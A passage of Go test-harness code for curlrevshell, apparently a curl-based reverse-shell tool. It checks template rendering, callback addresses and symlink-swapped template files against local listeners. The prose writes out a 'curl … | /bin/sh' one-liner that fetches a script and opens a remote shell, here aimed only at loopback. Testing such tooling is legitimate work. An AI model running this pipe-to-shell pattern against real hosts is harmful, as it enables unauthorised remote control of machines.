and compared with os.ReadFile through the configured path before every verdict. carry (carry.go; nothing of one request's script may reach another request, in particular not through a request that failed): the configured template is a shell script of 1 KiB, 6 KiB, 24 KiB, 96 KiB, 384 KiB, 1.5 MiB or 8 MiB (sequence n: size class (n/4)%7, actual size 75-100% of it; 8-600 comment lines each carrying {{.ID}} and {{.URL}}, the two curl commands of the default template after the first line, in the middle or at the end), so that every rendering names its request on every line; every request of a sequence has its own callback address (c2 parameter, c2 header or Host in turn). Well-behaved clients (fresh connection or a persistent one, Content-Length and chunked answers) are mixed on the same server with clients that ask for the script and go away: TCP reset (linger 0) without reading, after 1 byte, after a part (1 byte … half the script / 256 KiB); TLS close after 1 byte or a part; the socket closed under TLS after a part; one in five on a connection that has served a complete script before; these clients announce a receive buffer of 32-256 KiB and a segment size of 1400 or 536 bytes (or the defaults) before connecting, as a remote client does, so that the server is still sending a large script when they leave (counted as carry_aborts_mid_write: the handler's 'Sent script' notice is not among the operator lines before a marker sent when the client has read its part, and appears after it left). Sequential sequences ((n/2) even): a fixed tour, then PRNG-drawn disturbances {one or two leaving clients, the template rewritten (new version, new size, new layout; half the time followed by a leaving client), the template replaced by one that emits up to 1 MiB of output and then fails at execution - unknown field, index/slice out of range, missing sub-template, len/call of a wrong type - requested once or twice (status >= 400 and an empty body) and replaced by a valid one again}, each followed by one or two well-behaved requests or three at once. Concurrent sequences ((n/2) odd): two well-behaved clients (one persistent connection) and two leaving clients at the same time, then three more requests. Half of the sequences (n even) run in a child process with runtime.GOMAXPROCS(1), one at a time; the other half in a child process with all processors, three servers at a time (both beside the other engines). EVERY completely received 200 answer (HTTP framing complete) is compared byte for byte with the reference rendering for its own request - the pieces of the template text the file held at the time of the request with the ID found after the first '/i/', the request's callback address and the pin of the key presented in that handshake substituted by the harness itself (no template library) - so it starts with the template's first bytes, has exactly the reference's length and carries one ID; the ID goes into the run's set (no repeat, safe characters); a differing body is searched for the IDs and callback addresses it carries (those of clients that went away are remembered) and for its own rendering as a suffix. What a leaving client read is only used thus: if the first complete 'id=… url=…' it contains names another request's callback address, that is the same violation. distinct = distinct raw requests (precedence, per listen port for the port classes), executed script IDs, template transitions per layout and histories, carry (size class, mode, processors, connection kind, preceding disturbance, framing) and leaving-client shapes. THE HOST'S CURL (hostcurl.go). hostcurl: the documented one-liner 'curl -sk --pinnedpubkey sha256//PIN https://ADDR/c | /bin/sh' (PIN computed by the harness from the certificate the listener presents to an unrestricted client, ADDR the listen address on 127.0.0.1 or [::1]) is run by /bin/sh in its own process group on a 'host' whose curl is configured through a private .curlrc, found through $HOME or through $CURL_HOME in turn and read by all three curl processes of the pipeline (the fetch and the script's two callback commands): nothing (control); tls-max = 1.2; tlsv1.2 + tls-max = 1.2; tlsv1.3; curves = prime256v1 | secp384r1 | secp521r1 | X25519; tls-max = 1.2 with ciphers = one of ECDHE-ECDSA-AES128-GCM-SHA256 | ECDHE-ECDSA-AES256-GCM-SHA384 | ECDHE-ECDSA-CHACHA20-POLY1305 (the suites for an ECDSA key that Go serves by default; skipped if the served key is not ECDSA); tlsv1.3 with tls13-ciphers = TLS_AES_256_GCM_SHA384 | TLS_CHACHA20_POLY1305_SHA256; http1.1; http1.0; no-keepalive; noproxy = *; plus 6 (thorough 24) combinations of one TLS restriction with one HTTP/connection option drawn from the PRNG. Every profile is first tried with this machine's curl against a plain TLS listener of the harness's own (crypto/tls with nothing but a self-signed ECDSA P-256 certificate made by the harness, net/http handlers shaped like /c, /i, /o): the fetch (-sk), a download with -N and an upload with -T- from a pipe must all work there and the option must be seen in effect in the ClientHello / negotiated state / request line; a profile that fails any of this is NOT EXPLORED (coverage.hostcurl_profiles_not_explored; if only the fetch works there, as with http1.0 which cannot upload from a pipe, only the fetch of /c is explored and the printed script judged by the script oracle). Every usable profile gets 2 (thorough 8) runs: the server must send a script ('Sent script' notice, URL = ADDR, ID into the run's set), Input connected + Output connected with that ID and the ready notice must follow, 'echo HC-n-$((6*7))' must come back as HC-n-42, then exit. tlsclient: /c is fetched over connections of Go's TLS client restricted to MaxVersion TLS 1.2, MinVersion TLS 1.3, exactly TLS 1.2 with one of the three ECDHE-ECDSA AEAD suites, CurvePreferences of a single curve (P-256, P-384, P-521, X25519) with and without MaxVersion TLS 1.2 (restrictions that fail against the plain listener are not explored), against a listener on 127.0.0.1 and one on [::1], with a Host header or with nothing but SNI; a refused handshake is a violation (tls-client-refused:<restriction>), the script is judged as in the precedence engine (pin = key presented in that handshake, authority, notice). THE REAL BINARY (binary.go; main's wiring between the command line and hsrv; the program is built from the repository's working tree with -race and runs on a pseudo-terminal, its working directory being its private HOME). bintmpl: the template histories of the template engine against `curlrevshell -callback-template PATH` - sequence n: layout (n/2)%4, stealth if n is odd, the template PRESENT at start-up if (n/8) is even, else ABSENT at start-up (nothing at the path / no link / no current) or DANGLING at start-up (the link exists and leads nowhere, current -> a release without a template); PATH spelled n%6: absolute, relative to the working directory (t/current/callback.tmpl), ./…, ../home/…, t/store/../current/… (store a real directory), absolute with ./ and // inside; the flag spelled n%5: -f V, -f=V, --f V, --f=V, or given twice (first a decoy file holding another valid template, then PATH: the last occurrence is the configured one); every sequence starts with a request before anything is changed (a template absent at start-up => error status and no script), then a fixed tour (plain: create, edit, remove, re-create by rename, unparsable, re-create, directory, …; link layouts: every kind of link change as in the template engine) and PRNG-drawn steps, one request after each, judged by the SAME per-request oracle as the template engine (what the configured path leads to AT THAT MOMENT: valid => 200 rendered from the present content, absent/dangling/unparsable/failing => status >= 400 and empty body); the harness reads the path through the same spelling (HOME + \"/\" + spelling, resolved by the operating system) for its model comparison; every third sequence runs with no other option, with one, with a pair of the options below. binscript: the precedence engine's script oracle (16 presence classes per program; pin = key of that handshake, both commands agree, fresh safe ID, authority = reference function, 'Sent script' notice with that ID and URL on the program's terminal) against the program under a CONFIGURATION MATRIX: each of -one-shell, -serve-files-from (directory holding files named c, i/x, o, index.html / a single file named c / empty value / name with spaces at the edges / relative / ./…/ / ../home/… / through a symbolic link), -callback-address (one / with port / IPv6 literal / 36 of them), -ctrl-i (file / directory / missing / names with % verbs or spaces), -tls-certificate-cache (explicit / empty / inside the served directory / relative / in a directory that does not exist yet; otherwise the default under HOME), -log and CURLREVSHELL_LOG (flag / relative / environment / both), -no-timestamps, -ipv6-one-liners, -prompt (word / empty / with a % verb), -listen-address ([::1]:0 / localhost:0 / 127.0.0.3:0 / 0.0.0.0:0 / :0 / given twice; otherwise 127.0.0.1:0), -callback-template (a file that renders what the built-in template renders: regular / symbolic link / missing at start-up and created before the first request / relative / given twice) ALONE (cases 0-10) and then in PAIRS drawn by index (case i: options i%11 and (i%11+1+(i/11)%10)%11); the variants of every option are gone through in turn over the whole run (counted binopt_variant:*), value flags are spelled -f V / -f=V / --f V / --f=V and boolean flags -f / --f / -f=true / --f=true by the PRNG (binflag_form:*). binexec: under such configurations (alone and pairs in turn) one script per program, addressed to the listener through Host, the c2 parameter or SNI+port in turn, is run by /bin/sh with the real curl: Input connected + Output connected with its ID and the ready notice on the program's terminal, 'echo BX-n-$((6*7))' typed there answered with BX-n-42, exit. Not run: -icanhazip (no network: the program ends before it listens), -print-ctrl-i, -print-default-template (the program prints and ends); nothing of this property is observable there."
	r.Assumptions = []string{
		"real binary: 'a configured template file' is the file the -callback-template PATH names, resolved by the operating system from the program's working directory at the time of each request (not at start-up), whether or not anything existed there when the program started (-h: 'used if it exists' is read per request, as the statement's 'a missing … template produces an error status and no script' says); when the flag is given more than once the last occurrence is the configured one (Go's flag package, as for every other flag of the program); the other options of the program do not change any clause of this property (its statement names none of them), so the oracle under every configuration is the one of the default configuration; binexec progress bounds as in the exec engine (20 s per step, a fired bound is re-run alone with 40 s; script processes that have ended are a definite outcome)",
		"the host information of a request with an absolute-form target is the target's authority (RFC 7230 5.4/5.5); Unicode hosts can only be sent this way because net/http rejects a non-ASCII Host header before any handler runs",
		"an empty c2 value counts as not given; when one of query/body is 'c2=' and the other has a value, either reading is accepted (counted under ambiguous_param:*)",
		"when query and body both give a value, either of the two is accepted",
		"an all-ASCII Host is already in IDNA-ASCII form (case preserved)",
		"the default template's shape (two 'curl -Nsk --pinnedpubkey \"sha256//…\" https://…' lines) is what the script parser understands",
		"'the listen port unless that is 443' is read numerically: only the port 443 is left out of the SNI fallback; every other port, whatever its digits, is appended",
		"'the configured template file' is whatever the configured path leads to at the time of the request (the operating system's path resolution, symbolic links included), not what it led to when the server started; a dangling link is a missing template",
		"carry engine: the statement's 'for every request to /c the returned script …' is read as: every script is the rendering of the template as it is at that request with that request's own ID, address and pin and nothing else - whatever happened to earlier requests (client gone, template failing); only completely received answers are judged in full, a well-behaved client whose answer does not arrive completely within 90 s is inconclusive; a template that fails while being executed counts as the statement's 'unparsable' template (error status, no script), as in the template engine",
		"carry engine: the leaving clients' small receive window and Ethernet segment size, the pauses of 0-30 ms before a reset without reading and the waits (at most 5 s, 150 ms after three misses) for the 'Sent script' notice of a client that left only shape the schedule (the next request comes when the previous handler has ended); no verdict depends on them; 'mid-write' is a coverage counter derived from the order of operator lines, floors on it make a run that never had a client leave during sending inconclusive",
		"a port class none of whose candidates can be bound on a loopback address (no privilege for near443, every candidate taken) is reported as not explored (coverage.port_classes_not_explored, an added assumption line) and does not fail the run; at least one class must have been explored",
		"hostcurl/tlsclient: 'a host with curl' is read as any host whose curl (and TLS library) can talk to an ordinary TLS server that presents the same kind of key: what the harness's own plain crypto/tls listener (default configuration, ECDSA P-256 certificate) serves to a given curl configuration or Go client restriction, the server's listener must serve too. A .curlrc stands for a curl/TLS library that is limited in that way (all curl processes of the pipeline read it). The address the one-liner is given is the listen address, so the script must call back to exactly that. Progress bounds (20 s per step, a fired bound re-run alone with 40 s) as in the exec engine; a pipeline that has ended is a definite outcome, not a fired bound",
	}
	c := newCtx(r)

	var wg sync.WaitGroup
	for _, f := range []func(){c.precedenceEngine, c.idsEngine, c.templateEngine, c.carryEngine, c.tlsclientEngine, c.bintmplEngine, c.binscriptEngine} {
		wg.Add(1)
		go func() { defer wg.Done(); f() }()
	}
	wg.Wait()
	r.Logf("precedence/ids/template done; %d ids", len(c.ids))
	// the exec engine runs by itself: its oracle is about progress
	c.execEngine()
	// so does the hostcurl engine (hostcurl.go)
	c.hostcurlEngine()
	// the real binary's scripts, executed (binary.go)
	c.binexecEngine()
	r.Extra("distinct_ids", len(c.ids))

	for _, cl := range []string{"p0h0o0s0", "p0h0o0s1", "p0h0o1s0", "p0h0o1s1", "p0h1o0s0", "p0h1o0s1", "p0h1o1s0", "p0h1o1s1", "p1h0o0s0", "p1h0o0s1", "p1h0o1s0", "p1h0o1s1", "p1h1o0s0", "p1h1o0s1", "p1h1o1s0", "p1h1o1s1"} {
		r.Floor("requests:"+cl, 8)
	}
	r.Floor("listener:v4", 60)
	r.Floor("listener:v6", 60)
	if r.Counter("listener_443_skipped") == 0 {
		r.Floor("listener:443", 60)
		r.Floor("sni_fallbacks:443", 4)
	}
	r.Floor("sni_fallbacks:v4", 4)
	r.Floor("sni_fallbacks:v6", 4)
	if !r.Replaying() {
		portClassFloors(r)
	}
	r.Floor("idna_vectors", 10)
	r.Floor("idna_unicode_vectors", 5)
	r.Floor("scripts_parsed", int64(r.N(3000, 50000)))
	r.Floor("pins_compared", int64(r.N(3000, 50000)))
	r.Floor("ids_collected", int64(r.N(3000, 50000)))
	r.Floor("notices_matched", 150)
	r.Floor("scripts_executed", int64(r.N(8, 80)))
	r.Floor("roundtrips", int64(r.N(8, 80)))
	r.Floor("template_steps", int64(r.N(320, 2400)))
	r.Floor("template_renders_matched", int64(r.N(60, 480)))
	r.Floor("template_errors_checked", int64(r.N(60, 480)))
	templateFloors(r)
	carryFloors(r)
	if !r.Replaying() {
		hostcurlFloors(r)
		tlsclientFloors(r)
		binaryFloors(r)
	}
	r.Floor("error_responses_checked", 40)
}

package c07

// Template-history engine.
//
// The configured template path is <base>/current/callback.tmpl.  Four layouts
// of that path (sequence number mod 8 picks one, every layout once plain and
// once "stealth"):
//
//	plain         current/ is a directory, callback.tmpl a regular file
//	link          callback.tmpl is a symbolic link to a file in <base>/store/
//	dirlink       current is a symbolic link to <base>/releases/<n>/ (a
//	              "current -> releases/N" deploy); callback.tmpl a regular file
//	dirlink+link  both
//
// A small model (tworld) follows what the path leads to after every step; the
// model is compared with what the operating system says (os.ReadFile through the
// configured path) before the request is judged, so a mistake in the model is
// an inconclusive run and never a verdict.

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

const tmplName = "callback.tmpl"

// step kinds on the file the path leads to (every layout)
var fileKinds = []string{"writeA", "writeB", "writeA", "writeB", "rename-in", "unparsable", "exec-failing", "delete", "delete", "mkdir", "empty", "noop", "noop"}

// step kinds on the symbolic link that is the last path component
var linkKinds = []string{"relink", "relink", "relink", "relink", "relink-back", "relink-back", "dangle", "relink-dangling"}

// step kinds on the symbolic link that is the directory component
var dirKinds = []string{"swap-dir", "swap-dir", "swap-dir", "swap-dir", "swap-dir-back", "swap-dir-back", "swap-dir-empty", "remove-dir-link"}

var layouts = []string{"plain", "link", "dirlink", "dirlink+link"}

// tours: the first steps of a sequence on a symlinked layout are fixed, so that
// every kind of change of a link is followed by a request in every run; the
// rest of the sequence is drawn from the PRNG.
var tours = map[string][]string{
	"link": {
		"relink",          // link re-pointed to another file
		"writeA",          // link target edited in place
		"delete",          // link removed
		"relink",          // link re-created
		"dangle",          // target removed under the link
		"writeB",          // target re-created through the link
		"relink-dangling", // link re-pointed to nothing
		"relink-back",     // link re-pointed to an earlier target
		"rename-in",       // link replaced by a regular file
		"relink",          // regular file replaced by a link
	},
	"dirlink": {
		"swap-dir",        // current -> next release
		"writeB",          // file edited in place below the link
		"remove-dir-link", // current removed
		"swap-dir",        // current re-created
		"swap-dir-empty",  // release without a template
		"swap-dir-back",   // roll-back
		"rename-in",
		"remove-dir-link",
		"swap-dir-back",
		"swap-dir",
	},
	"dirlink+link": {
		"swap-dir",
		"relink",
		"writeA",
		"remove-dir-link",
		"swap-dir-back",
		"dangle",
		"relink",
		"swap-dir-empty",
		"swap-dir",
		"delete",
		"relink",
		"relink-back",
	},
}

type tstate struct {
	kind    string // valid-A valid-B empty unparsable exec-failing missing directory
	nonce   int
	content string
}

var missing = tstate{kind: "missing"}

// fnode is the last path component inside one real directory: a symbolic
// link to a file of the store (link != ""), or a regular file / directory /
// nothing (st).
type fnode struct {
	link string
	st   tstate
}

type tworld struct {
	r        *mon.Run
	rng      *rand.Rand
	base     string
	path     string // the configured template path
	layout   string
	hasLinks bool // the last component may be a symbolic link
	hasDir   bool // the directory component is a symbolic link
	stealth  bool
	pfx      string            // counter prefix: "template" (in process) or "bintmpl" (real binary)
	osPath   string            // how the harness itself reads "the configured path" for the model comparison ("" = path)
	store    map[string]tstate // regular files in <base>/store
	rel      map[int]*fnode    // real directory -> its last component
	cur      int               // the real directory the path leads through; -1: none (current removed)
	nrel     int
}

var fixedTime = time.Date(2024, 3, 25, 12, 0, 0, 0, time.UTC)

// pad, settle: in stealth sequences every version of every file has the same
// size and the same modification time (as cp -p, rsync -t or a deploy tool
// restoring timestamps leave it), so that only really re-reading the file
// can tell the versions apart.
func (w *tworld) pad(content string) string {
	if !w.stealth || content == "" || len(content) >= 700-9 {
		return content
	}
	return content + "{{/*" + strings.Repeat("p", 700-9-len(content)) + "*/}}"
}

func (w *tworld) settle(p string) {
	if w.stealth {
		os.Chtimes(p, fixedTime, fixedTime)
	}
}

func (w *tworld) realDir(k int) string {
	if !w.hasDir {
		return filepath.Join(w.base, "current")
	}
	return filepath.Join(w.base, "releases", strconv.Itoa(k))
}

func (w *tworld) storePath(name string) string { return filepath.Join(w.base, "store", name) }

// visible is what the configured path leads to.
func (w *tworld) visible() tstate {
	if w.cur < 0 {
		return missing
	}
	n := w.rel[w.cur]
	if n.link == "" {
		return n.st
	}
	if st, ok := w.store[n.link]; ok {
		return st
	}
	return missing
}

// describe says what the components of the path are right now.
func (w *tworld) describe() string {
	var sb strings.Builder
	switch {
	case !w.hasDir:
		sb.WriteString("current/ is a directory")
	case w.cur < 0:
		sb.WriteString("current does not exist")
	default:
		fmt.Fprintf(&sb, "current -> releases/%d", w.cur)
	}
	if w.cur >= 0 {
		n := w.rel[w.cur]
		if n.link != "" {
			_, ok := w.store[n.link]
			fmt.Fprintf(&sb, "; %s -> store/%s (target exists: %v)", tmplName, n.link, ok)
		} else {
			fmt.Fprintf(&sb, "; %s is %s", tmplName, map[bool]string{true: "absent", false: "a " + n.st.kind + " file"}[n.st.kind == "missing"])
		}
	}
	return sb.String()
}

// target is how a link in directory from names abs: relative or absolute.
func (w *tworld) target(from, abs string) string {
	if w.rng.IntN(2) == 0 {
		if rel, err := filepath.Rel(from, abs); err == nil {
			return rel
		}
	}
	return abs
}

// point makes link a symbolic link to target: atomically (symlink under
// another name, rename over it) or by remove + create.
func (w *tworld) point(link, target string) error {
	if fi, err := os.Lstat(link); err == nil && fi.IsDir() {
		if err := os.RemoveAll(link); err != nil {
			return err
		}
	}
	if w.rng.IntN(2) == 0 {
		tmp := link + ".lnk"
		os.Remove(tmp)
		if err := os.Symlink(target, tmp); err != nil {
			return err
		}
		w.r.Count(w.pfx+"_links_pointed:rename-over", 1)
		return os.Rename(tmp, link)
	}
	if err := os.Remove(link); err != nil && !os.IsNotExist(err) {
		return err
	}
	w.r.Count(w.pfx+"_links_pointed:remove-create", 1)
	return os.Symlink(target, link)
}

func validState(which string, nonce int) tstate {
	if which == "A" {
		return tstate{kind: "valid-A", nonce: nonce, content: fmt.Sprintf("#A%d url={{.URL}} id={{.ID}} fp={{.PubkeyFP}}\n", nonce)}
	}
	return tstate{kind: "valid-B", nonce: nonce, content: fmt.Sprintf("#B%d\nfp={{.PubkeyFP}}\nid={{.ID}}\nurl={{.URL}}\ncurl https://{{.URL}}/i/{{.ID}} https://{{.URL}}/o/{{.ID}}\n", nonce)}
}

func (w *tworld) writeFile(p string, st tstate) error {
	if err := os.WriteFile(p, []byte(w.pad(st.content)), 0o644); err != nil {
		return err
	}
	w.settle(p)
	return nil
}

// writeInPlace writes through the configured path, as somebody editing "the
// template file" does: a link is followed and its target changed.
func (w *tworld) writeInPlace(ns tstate) error {
	n := w.rel[w.cur]
	if n.link == "" && n.st.kind == "directory" {
		if err := os.RemoveAll(w.path); err != nil {
			return err
		}
	}
	if err := w.writeFile(w.path, ns); err != nil {
		return err
	}
	if n.link != "" {
		w.store[n.link] = ns
		w.r.Count(w.pfx+"_link_targets_written_in_place", 1)
	} else {
		n.st = ns
	}
	return nil
}

func (w *tworld) fp() string { return filepath.Join(w.realDir(w.cur), tmplName) }

func (w *tworld) renameIn(ns tstate) error {
	fp := w.fp()
	tmp := fp + ".new"
	if err := w.writeFile(tmp, ns); err != nil {
		return err
	}
	if fi, err := os.Lstat(fp); err == nil && fi.IsDir() {
		os.RemoveAll(fp)
	}
	if err := os.Rename(tmp, fp); err != nil {
		return err
	}
	*w.rel[w.cur] = fnode{st: ns}
	return nil
}

// relink points the last component at a new file of the store.
func (w *tworld) relink(ns tstate) error {
	name := fmt.Sprintf("v%d.tmpl", ns.nonce)
	if err := w.writeFile(w.storePath(name), ns); err != nil {
		return err
	}
	w.store[name] = ns
	dir := w.realDir(w.cur)
	if err := w.point(filepath.Join(dir, tmplName), w.target(dir, w.storePath(name))); err != nil {
		return err
	}
	*w.rel[w.cur] = fnode{link: name}
	return nil
}

// relinkTo points the last component at store file name (which may not exist).
func (w *tworld) relinkTo(name string) error {
	dir := w.realDir(w.cur)
	if err := w.point(filepath.Join(dir, tmplName), w.target(dir, w.storePath(name))); err != nil {
		return err
	}
	*w.rel[w.cur] = fnode{link: name}
	return nil
}

// earlierTarget picks a store file with a valid template other than the
// one linked now.
func (w *tworld) earlierTarget() string {
	var l []string
	for name, st := range w.store {
		if name != w.rel[w.cur].link && strings.HasPrefix(st.kind, "valid") {
			l = append(l, name)
		}
	}
	if len(l) == 0 {
		return ""
	}
	sort.Strings(l)
	return l[w.rng.IntN(len(l))]
}

func (w *tworld) earlierRelease() int {
	var l []int
	for k := range w.rel {
		if k != w.cur {
			l = append(l, k)
		}
	}
	if len(l) == 0 {
		return -1
	}
	sort.Ints(l)
	return l[w.rng.IntN(len(l))]
}

// newRelease makes releases/<n> holding st (nothing if st is missing) and
// returns n.
func (w *tworld) newRelease(st tstate) (int, error) {
	k := w.nrel
	w.nrel++
	dir := w.realDir(k)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return 0, err
	}
	n := &fnode{st: missing}
	w.rel[k] = n
	if st.kind == "missing" {
		return k, nil
	}
	if w.hasLinks && w.rng.IntN(3) != 0 {
		name := fmt.Sprintf("v%d.tmpl", st.nonce)
		if err := w.writeFile(w.storePath(name), st); err != nil {
			return 0, err
		}
		w.store[name] = st
		if err := os.Symlink(w.target(dir, w.storePath(name)), filepath.Join(dir, tmplName)); err != nil {
			return 0, err
		}
		n.link = name
		return k, nil
	}
	if err := w.writeFile(filepath.Join(dir, tmplName), st); err != nil {
		return 0, err
	}
	n.st = st
	return k, nil
}

func (w *tworld) pointCurrent(k int) error {
	if err := w.point(filepath.Join(w.base, "current"), w.target(w.base, w.realDir(k))); err != nil {
		return err
	}
	w.cur = k
	return nil
}

// osView reads the template through the configured path, as the operating
// system resolves it now.
func (w *tworld) osView() (kind string, content string) {
	p := w.path
	if w.osPath != "" {
		p = w.osPath
	}
	b, err := os.ReadFile(p)
	if err == nil {
		return "file", string(b)
	}
	if os.IsNotExist(err) {
		return "missing", ""
	}
	if fi, serr := os.Stat(p); serr == nil && fi.IsDir() {
		return "directory", ""
	}
	return "error:" + err.Error(), ""
}

// agrees compares the model with the operating system's view.
func (w *tworld) agrees(st tstate) (bool, string) {
	kind, content := w.osView()
	switch st.kind {
	case "missing", "directory":
		return kind == st.kind, kind
	}
	return kind == "file" && content == w.pad(st.content), kind
}

func isLinkChange(kind string, wasLink bool) bool {
	switch kind {
	case "relink", "relink-back", "dangle", "relink-dangling", "swap-dir", "swap-dir-back", "swap-dir-empty", "remove-dir-link":
		return true
	case "delete", "rename-in", "mkdir":
		return wasLink
	}
	return false
}

// tmplHost is where a template history runs: hsrv in process (nil) or the real
// binary (bintemplate.go).
type tmplHost struct {
	eng, pfx string
	base     string // the directory that holds current/ store/ releases/
	startup  string // "" = as the in-process engine draws it; present | missing | dangling
	tour     []string
	// start launches the server once the start-up state of the path exists
	start func(w *tworld) (addr string, stop func(), cfg any, err error)
	// osPath: how the harness reads the configured path (its spelling resolved by the operating system)
	osPath string
}

func (c *ctx) templateSequence(seq, steps int) {
	c.templateSequenceOn(seq, steps, nil)
}

func (c *ctx) templateSequenceOn(seq, steps int, h *tmplHost) {
	r := c.r
	eng, pfx := "template", "template"
	base := filepath.Join(r.Work, fmt.Sprintf("tmpl-%d", seq))
	if h != nil {
		eng, pfx, base = h.eng, h.pfx, h.base
	}
	rng := r.Rng(eng, seq)
	layout := layouts[(seq/2)%len(layouts)]
	w := &tworld{
		r: r, rng: rng, base: base, layout: layout, pfx: pfx,
		path:     filepath.Join(base, "current", tmplName),
		hasLinks: strings.Contains(layout, "link") && layout != "dirlink",
		hasDir:   strings.HasPrefix(layout, "dirlink"),
		stealth:  seq%2 == 1,
		store:    map[string]tstate{},
		rel:      map[int]*fnode{},
		cur:      -1,
	}
	if h != nil {
		w.osPath = h.osPath
	}
	for _, d := range []string{base, filepath.Join(base, "store")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			r.Inconclusive(fmt.Sprintf("%s %d: %v", eng, seq, err))
			return
		}
	}
	if w.stealth {
		r.Count(pfx+"_stealth_sequences", 1)
	}
	r.Count(pfx+"_layout:"+layout, 1)

	// the state at start-up
	var ferr error
	initial := missing
	dangling := false
	if h != nil && h.startup != "" {
		if h.startup == "present" {
			initial = validState([]string{"A", "B"}[rng.IntN(2)], seq*1000000+999999)
		}
		dangling = h.startup == "dangling"
	} else if layout == "plain" {
		if rng.IntN(2) == 0 {
			initial = validState("A", seq*1000000+999999)
		}
	} else if seq < 8 || rng.IntN(4) != 0 {
		initial = validState([]string{"A", "B"}[rng.IntN(2)], seq*1000000+999999)
	}
	if !w.hasDir {
		ferr = os.MkdirAll(w.realDir(0), 0o755)
		w.rel[0], w.cur, w.nrel = &fnode{st: missing}, 0, 1
		if ferr == nil && initial.kind != "missing" {
			if w.hasLinks {
				ferr = w.relink(initial)
			} else {
				ferr = w.writeInPlace(initial)
			}
		} else if ferr == nil && dangling && w.hasLinks {
			ferr = w.relinkTo("gone-at-startup.tmpl") // the link exists and leads nowhere
		}
	} else if initial.kind != "missing" {
		var k int
		if k, ferr = w.newRelease(initial); ferr == nil {
			ferr = w.pointCurrent(k)
		}
	} else if dangling {
		// current -> a release without a template (or with a link that leads nowhere)
		var k int
		if k, ferr = w.newRelease(missing); ferr == nil {
			if ferr = w.pointCurrent(k); ferr == nil && w.hasLinks {
				ferr = w.relinkTo("gone-at-startup.tmpl")
			}
		}
	}
	if ferr != nil {
		r.Inconclusive(fmt.Sprintf("%s %d: preparing layout %s: %v", eng, seq, layout, ferr))
		return
	}
	if ok, osk := w.agrees(w.visible()); !ok {
		r.Inconclusive(fmt.Sprintf("%s %d (layout %s): at start-up the harness's model says the path leads to %s, the operating system says %s (%s)", eng, seq, layout, w.visible().kind, osk, w.describe()))
		return
	}
	if layout != "plain" && initial.kind != "missing" {
		r.Count(pfx+"_symlink_resolves_at_startup", 1)
	}
	if initial.kind == "missing" {
		r.Count(pfx+"_missing_at_startup", 1)
		r.Count(pfx+"_missing_at_startup:"+layout, 1)
		if dangling && layout != "plain" {
			r.Count(pfx+"_dangling_at_startup", 1)
		}
	}
	startDesc := w.describe()

	var addr string
	var cfg any
	if h != nil {
		a, stop, cf, err := h.start(w)
		if err != nil {
			r.Inconclusive(fmt.Sprintf("%s %d: server did not start: %v", eng, seq, err))
			return
		}
		defer stop()
		addr, cfg = a, cf
	} else {
		laddr := "127.0.0.1:0"
		if seq%3 == 2 {
			laddr = "[::1]:0"
		}
		l, err := startLsn("tmpl", laddr, hk.Config{TmplF: w.path})
		if err != nil {
			r.Inconclusive(fmt.Sprintf("template %d: server did not start: %v", seq, err))
			return
		}
		defer l.s.Stop()
		addr = l.s.Addr
	}

	kinds := append([]string(nil), fileKinds...)
	if w.hasLinks {
		kinds = append(kinds, linkKinds...)
	}
	if w.hasDir {
		kinds = append(kinds, dirKinds...)
	}
	tour := tours[layout]
	if h != nil {
		tour = h.tour
	}
	missingAtStart := initial.kind == "missing"
	servedSinceStart := false

	var hist []map[string]any
	var sig []string
	for step := 0; step < steps; step++ {
		kind := kinds[rng.IntN(len(kinds))]
		if step < len(tour) {
			kind = tour[step]
		}
		prev := w.visible().kind
		nonce := seq*1000000 + step
		ns := validState([]string{"A", "B"}[rng.IntN(2)], nonce)

		// steps that cannot be taken in the present state become the nearest one that can
		if w.cur < 0 {
			switch kind {
			case "swap-dir", "swap-dir-back", "swap-dir-empty", "noop":
			case "remove-dir-link":
				kind = "swap-dir-back"
			default:
				kind = "swap-dir"
			}
		}
		if kind == "swap-dir-back" && w.earlierRelease() < 0 {
			kind = "swap-dir"
		}
		back := ""
		if w.cur >= 0 {
			if kind == "dangle" {
				if _, ok := w.store[w.rel[w.cur].link]; !ok {
					kind = "relink-dangling"
				}
			}
			if kind == "relink-back" {
				if back = w.earlierTarget(); back == "" {
					kind = "relink"
				}
			}
		}
		wasLink := w.cur >= 0 && w.rel[w.cur].link != ""
		through := w.hasDir || wasLink // the path passes through a symbolic link now

		ferr = nil
		switch kind {
		case "writeA":
			ferr = w.writeInPlace(validState("A", nonce))
		case "writeB":
			ferr = w.writeInPlace(validState("B", nonce))
		case "rename-in":
			ferr = w.renameIn(ns)
		case "unparsable":
			ferr = w.writeInPlace(tstate{kind: "unparsable", content: unparsable[rng.IntN(len(unparsable))]})
		case "exec-failing":
			ferr = w.writeInPlace(tstate{kind: "exec-failing", content: execFailing[rng.IntN(len(execFailing))]})
		case "empty":
			ferr = w.writeInPlace(tstate{kind: "empty"})
		case "delete":
			ferr = os.RemoveAll(w.fp()) // a link is removed, not what it points to
			*w.rel[w.cur] = fnode{st: missing}
		case "mkdir":
			os.RemoveAll(w.fp())
			ferr = os.Mkdir(w.fp(), 0o755)
			*w.rel[w.cur] = fnode{st: tstate{kind: "directory"}}
		case "noop":
		case "relink":
			ferr = w.relink(ns)
		case "relink-back":
			ferr = w.relinkTo(back)
		case "dangle":
			name := w.rel[w.cur].link
			ferr = os.Remove(w.storePath(name))
			delete(w.store, name)
		case "relink-dangling":
			ferr = w.relinkTo(fmt.Sprintf("gone-%d.tmpl", nonce))
		case "swap-dir", "swap-dir-empty":
			st := ns
			if kind == "swap-dir-empty" {
				st = missing
			}
			var k int
			if k, ferr = w.newRelease(st); ferr == nil {
				ferr = w.pointCurrent(k)
			}
		case "swap-dir-back":
			ferr = w.pointCurrent(w.earlierRelease())
		case "remove-dir-link":
			ferr = os.Remove(filepath.Join(w.base, "current"))
			w.cur = -1
		default:
			ferr = fmt.Errorf("unknown step kind %q", kind)
		}
		if ferr != nil {
			r.Inconclusive(fmt.Sprintf(eng+" %d step %d (%s, layout %s): %v", seq, step, kind, layout, ferr))
			return
		}
		st := w.visible()
		if ok, osk := w.agrees(st); !ok {
			r.Inconclusive(fmt.Sprintf(eng+" %d step %d (%s, layout %s): the harness's model says the path leads to %s #%d, the operating system says %s (%s)", seq, step, kind, layout, st.kind, st.nonce, osk, w.describe()))
			return
		}
		linkChange := isLinkChange(kind, wasLink)
